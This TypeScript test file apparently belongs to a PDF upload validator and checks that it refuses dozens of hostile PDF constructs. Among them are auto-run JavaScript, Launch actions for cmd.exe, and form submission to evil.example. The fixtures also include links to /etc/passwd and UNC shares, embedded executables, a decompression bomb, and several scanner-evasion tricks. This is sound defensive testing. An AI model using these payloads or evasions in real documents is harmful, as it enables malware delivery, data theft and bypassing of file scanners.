import { deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { pdfScan } from '../../../../tests/support/files/documents.ts'
import { type PdfObjects, packedPdf, pdfOf, updatedPdf } from '../../../../tests/support/files/pdf.ts'
import { checkPdf } from './pdf.ts'

/** Without the bytes of a file that was taken by mistake. */
async function problemOf(bytes: Buffer) {
  const checked = await checkPdf(bytes)
  return 'problem' in checked ? checked : checked.mediaType
}

const megabyte = 1024 * 1024
const script = '/S /JavaScript /JS (app.alert\\(1\\))'
const opening = (action: string): PdfObjects => ({
  1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
})
const stream = (dictionary: string, data = 'x') => ({ dictionary, data: Buffer.from(data) })

const attacks: readonly (readonly [string, PdfObjects])[] = [
  ['a script that runs when it is opened', opening(`<< ${script} >>`)],
  ['a script whose name is written with a number', { 9: '<< /S /J#61vaScript /J#53 (app.alert) >>' }],
  ['a script in an object of its own', { ...opening('9 0 R'), 9: `<< ${script} >>` }],
  ['a script that nothing leads to', { 9: `<< ${script} >>` }],
  ['a kind of action named elsewhere', { ...opening('<< /S 9 0 R >>'), 9: '/JavaScript' }],
  ['a kind of action hidden deep inside', { 9: `[[[<< /Deep [1 2 << ${script} >>] >>]]]` }],
  ['a script after a comment', { 9: '<< /S %/P\n/JavaScript /JS (x) >>' }],
  ['a script by the second of two keys', { 9: '<< /S /P /S /JavaScript >>' }],
  ['scripts by name', { 1: '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 9 0 R >> >>', 9: '<< >>' }],
  ['a form that is sent off', { 9: '<< /S /SubmitForm /F (https://evil.example/) >>' }],
  ['a form that takes in a file', { 9: '<< /S /ImportData /F (a.fdf) >>' }],
  ['a form that is emptied', { 9: '<< /S /ResetForm >>' }],
  ['a program to start', { 9: '<< /S /Launch /F (cmd.exe) >>' }],
  [
    'a place in a neighbour’s file',
    opening('<< /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>'),
  ],
  ['a place in a file inside', { 9: '<< /S /GoToE /D [0 /Fit] >>' }],
  ['a film that plays', { 9: '<< /S /Rendition /OP 0 >>' }],
  ['a command of the reader', opening('<< /S /Named /N /Print >>')],
  ['a layer that is shown by an action', { 9: '<< /S /SetOCGState /State [] >>' }],
  ['an action of a kind that nobody knows', { 9: '<< /Subtype /Link /A << /S /Surprise >> >>' }],
  ['an action of a kind that says that it is one', { 9: '<< /Type /Action /S /Surprise >>' }],
  ['a page that is opened on the web at once', opening('<< /S /URI /URI (https://evil.example/) >>')],
  [
    'a page that is opened on the web at once, told elsewhere',
    { ...opening('9 0 R'), 9: '<< /S /URI /URI (https://evil.example/) >>' },
  ],
  ['a link to a file of its reader', { 9: '<< /S /URI /URI (file:///etc/passwd) >>' }],
  ['a link to a neighbour', { 9: '<< /S /URI /URI (\\\\\\\\evil\\\\a) >>' }],
  ['a link that is a script', { 9: '<< /S /URI /URI (javascript:alert) >>' }],
  [
    'a link whose address is told elsewhere',
    { 9: '<< /S /URI /URI 10 0 R >>', 10: '(https://evil.example/)' },
  ],
  ['an action behind a link', { 9: `<< /S /URI /URI (https://a.example/) /Next << ${script} >> >>` }],
  ['more actions behind a place', { 9: '<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>', 10: '<< >>' }],
  ['actions for events', { 3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA 9 0 R >>', 9: '<< >>' }],
  ['a form of another kind', { 9: '<< /Fields [] /XFA [(a) 10 0 R] >>', 10: stream('') }],
  ['a file inside', { 9: '<< /Type /Filespec /EF << /F 10 0 R >> >>', 10: stream('/Type /EmbeddedFile') }],
  ['a file inside that nothing names', { 9: stream('/Type /EmbeddedFile', 'MZ') }],
  ['files inside by name', { 9: '<< /EmbeddedFiles << /Names [] >> >>' }],
  ['a file pinned to its page', { 9: '<< /Type /Annot /Subtype /FileAttachment >>' }],
  ['a film', { 9: '<< /Type /Annot /Subtype /Movie /Movie 10 0 R >>', 10: '<< >>' }],
  ['a sound', { 9: '<< /Type /Annot /Subtype /Sound >>' }],
  ['a screen', { 9: '<< /Type /Annot /Subtype /Screen >>' }],
  ['a body in space', { 9: '<< /Type /Annot /Subtype /3D >>' }],
  ['rich media', { 9: '<< /Type /Annot /Subtype /RichMedia >>' }],
  ['data that lies in another file', { 9: stream('/F (\\\\\\\\evil\\\\a) /FFilter /FlateDecode', '') }],
  ['a picture of a neighbour', { 9: '<< /Ref << /F 10 0 R /Page 0 >> >>', 10: '(\\\\\\\\evil\\\\a.pdf)' }],
  ['a screen whose kind is told elsewhere', { 9: '<< /Type /Annot /Subtype 10 0 R >>', 10: '/Screen' }],
  ['a program for printers', { 9: stream('/Type /XObject /Subtype /Form /Subtype2 /PS') }],
  ['a collection of files', { 1: '<< /Type /Catalog /Pages 2 0 R /Collection << >> >>' }],
]

describe('a pdf is refused for', () => {
  test.each(attacks)('%s', async (_, objects) => {
    expect(await problemOf(pdfOf(objects))).toEqual({ problem: 'active_content' })
  })

  test.each(attacks)('%s, when its objects are compressed', async (_, objects) => {
    expect(await problemOf(packedPdf(objects))).toEqual({ problem: 'active_content' })
  })

  test.each(attacks)('%s, when it was changed afterwards', async (_, objects) => {
    const changed = updatedPdf(await pdfScan(), objects)
    expect(await problemOf(changed)).toEqual({ problem: 'active_content' })
  })

  test('a script that a later version has taken out', async () => {
    const bytes = updatedPdf(pdfOf({ 9: `<< ${script} >>` }), { 9: 'null' })
    expect(await problemOf(bytes)).toEqual({ problem: 'active_content' })
  })
})

/** An object inside of something that no reader should look for objects in. */
const hidden = `9 0 obj\n<< ${script} >>\nendobj\n`

describe('a pdf is refused that cannot be looked into', () => {
  test.each<[string, Buffer, string]>([
    [
      'because a password closes it',
      pdfOf({ 9: '<< /Filter /Standard /V 2 >>' }, '/Encrypt 9 0 R'),
      'encrypted',
    ],
    [
      'because its objects are packed in an unknown way',
      packedPdf({}, { objStm: '/Filter /LZWDecode' }),
      'damaged',
    ],
    [
      'because its objects are packed twice',
      packedPdf(
        {},
        { objStm: '/Filter [/FlateDecode /FlateDecode]', compress: (d) => deflateSync(deflateSync(d)) },
      ),
      'damaged',
    ],
    ['because its objects are not packed as it says', packedPdf({}, { compress: (data) => data }), 'damaged'],
    [
      'because its packed objects break off',
      packedPdf({}, { compress: (data) => deflateSync(data).subarray(0, -8) }),
      'damaged',
    ],
    ['because an object lies in the data of another', pdfOf({ 8: stream('', hidden) }), 'something_inside'],
    ['because an object lies in a text', pdfOf({ 8: `(${hidden})` }), 'something_inside'],
    [
      'because an object lies behind a comment',
      pdfOf({ 8: `%${hidden.replaceAll('\n', ' ')}\n[]` }),
      'something_inside',
    ],
    [
      'because an object lies in data, with a comment inside of its name',
      pdfOf({ 8: stream('', hidden.replace('obj', '%\n obj')) }),
      'something_inside',
    ],
    [
      'because an object lies in data, with a comment between its numbers',
      pdfOf({ 8: stream('', hidden.replace('9 0', '9 %\n0')) }),
      'something_inside',
    ],
    [
      'because a trailer lies in data',
      pdfOf({ 8: stream('', 'xref\n0 0\ntrailer\n<< /Root 1 0 R /#45ncrypt 9 0 R >>') }),
      'something_inside',
    ],
    [
      'because a trailer with a comment lies in a text',
      pdfOf({ 8: '(trailer %\n<< /#45ncrypt 9 0 R >>)' }),
      'something_inside',
    ],
    [
      'because a password closes it, as readers find that mend it',
      pdfOf({ 9: '<< /Type /XRef /Root 1 0 R /Encrypt 10 0 R >>' }),
      'encrypted',
    ],
    [
      'because its packed objects are unpacked otherwise by the short name of a key',
      packedPdf({}, { objStm: '/Filter /FlateDecode /DP << /Predictor 12 /Columns 9 >>' }),
      'damaged',
    ],
    [
      'because its packed objects end in half a row',
      packedPdf(
        {},
        {
          objStm: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1000 >>',
          compress: (data) => deflateSync(halfARowMore(data)),
        },
      ),
      'damaged',
    ],
    [
      'because a packed object begins in a comment',
      // Read in turn, an action stands there; by its place, a text.
      packedPdf({}, { objStm: '', compress: intoComment }),
      'damaged',
    ],
    [
      'because data begins on the line of its word',
      Buffer.from(
        pdfOf({ 8: stream('') })
          .toString('latin1')
          .replace('stream\nx', 'stream('),
        'latin1',
      ),
      'damaged',
    ],
    ['because a name ends early for some', pdfOf({ 9: '<< /S /JavaScript#00x /JS#00x (app) >>' }), 'damaged'],
    ['because an object does not end', pdfOf({ 9: '<< /A ' }), 'damaged'],
    ['because an object is followed by another', pdfOf({ 9: '<< >> << >>' }), 'damaged'],
    ['because a text does not end', pdfOf({ 9: '(((' }), 'damaged'],
    ['because data is shorter than it says', pdfOf({ 9: stream('/Length 900') }), 'damaged'],
    ['because data has two lengths', pdfOf({ 9: stream('/Length 1') }), 'damaged'],
    ['because it is nested without end', pdfOf({ 9: '['.repeat(5_000) }), 'damaged'],
    ['because objects without a list lie in other data', typeTwoWithoutContainer(), 'damaged'],
  ])('%s', async (_, bytes, problem) => {
    expect(await problemOf(bytes)).toEqual({ problem })
  })

  test('because its objects unpack to far more than they are', async () => {
    const compress = () => deflateSync(Buffer.alloc(200 * megabyte, ' '))
    const bomb = packedPdf({}, { compress })
    expect(bomb.length).toBeLessThan(megabyte)
    expect(await problemOf(bomb)).toEqual({ problem: 'unpacks_too_large' })
  })

  test('because it has more parts than any scan, and soon', async () => {
    const many = pdfOf({ 9: `[${'0 '.repeat(4 * megabyte)}]` })
    expect(await problemOf(many)).toEqual({ problem: 'unpacks_too_large' })
  })
})

/** One whole row and the beginning of a second one. */
const halfARowMore = (data: Buffer): Buffer =>
  Buffer.concat([Buffer.alloc(1), data, Buffer.alloc(1000 - data.length, ' '), Buffer.from([0, 0x20])])

/** The line end between the list and the first object becomes the beginning of a comment. */
const intoComment = (data: Buffer): Buffer =>
  Buffer.from(data.toString('latin1').replace('\n', '%'), 'latin1')

/** The table sends readers into data that does not look like packed objects. */
function typeTwoWithoutContainer(): Buffer {
  const bytes = packedPdf({}).toString('latin1')
  return Buffer.from(bytes.replace('/Type /ObjStm /N ', '/Type /Nothing /M '), 'latin1')
}
